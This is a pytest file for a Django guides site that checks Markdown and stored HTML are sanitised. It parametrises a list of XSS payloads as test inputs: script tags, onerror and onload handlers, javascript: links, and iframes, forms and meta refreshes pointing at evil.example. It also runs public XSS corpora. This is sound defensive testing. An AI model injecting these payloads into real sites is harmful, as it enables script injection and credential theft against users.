"""Editor-written Markdown becomes safe HTML: hostile input, the public XSS corpora, and showing stored HTML."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.test import Client

from guides.models import RightsPage, Step
from guides.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, ALLOWED_URL_SCHEMES, render_markdown, sanitise
from tests.guides.factories import add_step, make_guide, make_rights_page

CORPUS = Path(settings.BASE_DIR).parent / "shared" / "xss-corpus"


def corpus_payloads() -> list[str]:
    """Every line of the PayloadsAllTheThings lists and every Big List of Naughty Strings entry."""
    payloads: list[str] = []
    for path in sorted((CORPUS / "payloadsallthethings").glob("*.txt")):
        payloads += [line for line in path.read_text(encoding="utf-8", errors="replace").splitlines() if line.strip()]
    blns = CORPUS / "blns" / "blns.json"
    if blns.exists():
        payloads += [entry for entry in json.loads(blns.read_text(encoding="utf-8")) if entry.strip()]
    return payloads


class _Inspector(HTMLParser):
    """Collects every reason the HTML is outside the allow-list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | {"class", "rel"}
        for name, value in attrs:
            if name not in allowed:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name == "href":
                raw = value or ""  # the parser has already decoded character references
                if any(ord(ch) < 32 or ord(ch) == 127 for ch in raw):
                    self.problems.append(f"control characters in link {raw!r}")
                target = "".join(ch for ch in raw if ch.isprintable() and not ch.isspace())
                scheme = urlsplit(target).scheme.lower()
                if scheme and scheme not in ALLOWED_URL_SCHEMES:
                    self.problems.append(f"link scheme {scheme!r}")
            if name == "rel" and value != "noopener noreferrer":
                self.problems.append(f"rel={value!r}")
        if tag == "a" and ("rel", "noopener noreferrer") not in attrs:
            self.problems.append("link without rel=noopener noreferrer")


def unsafe_parts(fragment: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(fragment)
    inspector.close()
    return inspector.problems


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<p onclick=alert(1) style='color:red'>hi</p>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<svg onload=alert(1)><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    '<div><p>unclosed <b>bold <a href="https://example.org" onmouseover=alert(1)>link',
    "<<script>script>alert(1)<</script>/script>",
    "<!-- <script>alert(1)</script> -->",
    '"><img src=x onerror=alert(1)>',
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "![image](https://tracker.example/pixel.png)",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markdown_comes_out_harmless(payload: str) -> None:
    for rendered in (render_markdown(payload), sanitise(payload)):
        assert unsafe_parts(rendered) == [], rendered
        # What is left of a tag is shown as text (escaped), never as markup.
        for tag in ("<script", "<svg", "<iframe", "<img", "<style", "<form", "<base", "<meta", "<math"):
            assert tag not in rendered.lower(), rendered


def test_content_inside_dangerous_elements_is_dropped_not_shown() -> None:
    assert sanitise("<script>alert(1)</script>safe") == "safe"
    assert sanitise("<svg><text>drawn</text></svg>after") == "after"
    assert sanitise("<style>p{}</style>text") == "text"


def test_allowed_markdown_is_kept_with_govuk_classes_and_safe_links() -> None:
    rendered = render_markdown(
        "## Heading\n\nA **bold** and *soft* word.\n\n- one\n- two\n\n1. first\n\n"
        "[A site](https://example.org) [Mail](mailto:help@example.org) [Call](tel:08081689111) [Here](/rights/)"
    )
    assert '<h2 class="govuk-heading-m">Heading</h2>' in rendered
    assert "<strong>bold</strong>" in rendered and "<em>soft</em>" in rendered
    assert '<ul class="govuk-list govuk-list--bullet">' in rendered
    assert '<ol class="govuk-list govuk-list--number">' in rendered
    assert '<a href="https://example.org" class="govuk-link" rel="noopener noreferrer">A site</a>' in rendered
    assert 'href="mailto:help@example.org"' in rendered
    assert 'href="tel:08081689111"' in rendered
    assert 'href="/rights/"' in rendered
    assert unsafe_parts(rendered) == []


def test_a_class_or_rel_from_the_input_is_replaced() -> None:
    rendered = sanitise('<p class="app-exiting">x</p><a href="https://example.org" rel="opener" class="evil">y</a>')
    assert rendered == (
        '<p class="govuk-body">x</p><a href="https://example.org" class="govuk-link" rel="noopener noreferrer">y</a>'
    )


@pytest.mark.skipif(not CORPUS.exists(), reason=f"the shared XSS corpus is not at {CORPUS}")
def test_every_corpus_payload_comes_out_inside_the_allow_list() -> None:
    payloads = corpus_payloads()
    assert len(payloads) > 1000
    failures = []
    for payload in payloads:
        for rendered in (render_markdown(payload), sanitise(payload), render_markdown(f"[link]({payload})")):
            problems = unsafe_parts(rendered)
            if problems:
                failures.append((payload, problems))
    assert failures == []


@pytest.mark.django_db
def test_body_html_is_rendered_when_a_step_is_saved(client: Client) -> None:
    guide = make_guide("safe", steps=0)
    step = add_step(guide, body="Hello <script>alert(1)</script> [x](javascript:alert(1)) **there**")
    assert "<script" not in step.body_html
    assert "href" not in step.body_html  # markdown-it refuses a javascript: link; it stays as text
    assert "<strong>there</strong>" in step.body_html

    step.body_markdown = "Changed"
    step.save(update_fields=["body_markdown"])
    step.refresh_from_db()
    assert step.body_html.strip() == '<p class="govuk-body">Changed</p>'


@pytest.mark.django_db
def test_stored_html_is_sanitised_again_when_shown(client: Client) -> None:
    """Even HTML written straight into the database (not through save()) cannot reach the page unsafely."""
    guide = make_guide("tampered", steps=1)
    Step.objects.filter(guide=guide).update(
        body_html='<p>ok</p><script>alert("step")</script><a href="javascript:x()">y</a>'
    )
    page = make_rights_page()
    RightsPage.objects.filter(pk=page.pk).update(body_html='<img src=x onerror=alert("rights")><p>fine</p>')

    step_html = client.get("/guides/tampered/steps/1/").content.decode()
    assert 'alert("step")' not in step_html
    assert "javascript:x()" not in step_html
    assert '<p class="govuk-body">ok</p>' in step_html
    rights_html = client.get("/rights/victims-code/").content.decode()
    assert "onerror" not in rights_html
    assert '<p class="govuk-body">fine</p>' in rights_html
